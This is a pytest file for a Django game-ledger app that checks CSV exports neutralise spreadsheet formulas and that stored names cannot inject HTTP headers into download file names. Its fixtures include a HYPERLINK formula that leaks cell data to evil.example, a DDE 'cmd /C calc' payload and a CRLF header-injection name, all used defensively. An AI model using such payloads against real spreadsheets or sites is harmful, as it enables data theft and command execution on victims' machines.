"""Ledger CSVs no spreadsheet runs, and downloads whatever a stored name holds."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from games import reports, services
from games.models import Group, Player, Session
from games.reports.opponents import spreadsheet_safe
from tests.api.conftest import API, client_for
from tests.streamed import streamed

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (FORMULA, "'" + FORMULA),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-12.5", "-12.5"),  # numbers stay numbers
        ("+3", "+3"),
        ("-6", "-6"),
        ("Ann", "Ann"),
        ("2026-11-30", "2026-11-30"),
        (7, 7),
    ],
)
def test_a_cell_that_would_start_a_formula_is_made_text(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


def test_a_player_named_like_a_formula_lands_as_text_in_every_ledger_csv(
    night: Session, group: Group, players: dict[str, Player], bob_user: User
) -> None:
    # An older name, stored before names were checked, or one the checks let through.
    Player.objects.filter(pk=players["Cy"].pk).update(name=FORMULA)
    night.seats.filter(player=players["Cy"]).update(name=FORMULA)
    ann = players["Ann"]

    api = client_for(bob_user).get(f"{API}/groups/{group.pk}/ledger/?player={ann.pk}&format=csv")
    web_client = Client()
    web_client.force_login(bob_user)
    web = web_client.get(f"/sessions/{night.pk}/ledger/{ann.pk}.csv")

    for response in (api, web):
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(streamed(response).decode())))
        cy_rows = [row for row in rows[1:] if row[1] != "Bob" and row[1] != "Di"]
        assert cy_rows and all(row[1] == "'" + FORMULA for row in cy_rows)
        assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
        # The amounts are still numbers: the signed ones keep their sign, no apostrophe.
        assert any(row[6].startswith("-") for row in rows[1:])
        assert all(not row[6].startswith("'") for row in rows[1:])


def test_a_stored_name_with_a_line_break_still_downloads(
    night: Session, group: Group, players: dict[str, Player], bob_user: User
) -> None:
    # Kept from before names were checked: the download must not answer 500.
    Player.objects.filter(pk=players["Ann"].pk).update(name="Ann\r\nX-Evil: 1")
    night.seats.filter(player=players["Ann"]).update(name="Ann\r\nX-Evil: 1")
    ann = players["Ann"]

    api = client_for(bob_user).get(f"{API}/groups/{group.pk}/ledger/?player={ann.pk}&format=csv")
    web_client = Client()
    web_client.force_login(bob_user)
    web = web_client.get(f"/sessions/{night.pk}/ledger/{ann.pk}.csv")

    assert api.status_code == 200
    assert api["Content-Disposition"] == (
        f'attachment; filename="ledger-{group.pk}-Ann__X-Evil__1.csv"'
    )
    assert web.status_code == 200
    assert web["Content-Disposition"] == (
        f'attachment; filename="session-{night.pk}-Ann__X-Evil__1.csv"'
    )
    assert "X-Evil" not in api.headers and "X-Evil" not in web.headers


def test_a_name_beyond_ascii_keeps_its_letters_in_the_file_name(
    night: Session, group: Group, players: dict[str, Player], ann_user: User, bob_user: User
) -> None:
    ann = services.update_player(players["Ann"], ann_user, name="Đức Anh")
    api = client_for(bob_user).get(f"{API}/groups/{group.pk}/ledger/?player={ann.pk}&format=csv")
    assert api.status_code == 200
    assert api["Content-Disposition"] == (
        f"attachment; filename*=utf-8''ledger-{group.pk}-%C4%90%E1%BB%A9c_Anh.csv"
    )
    assert reports.opponent_ledger_csv(group, ann).splitlines()[1].startswith("Đức Anh,")
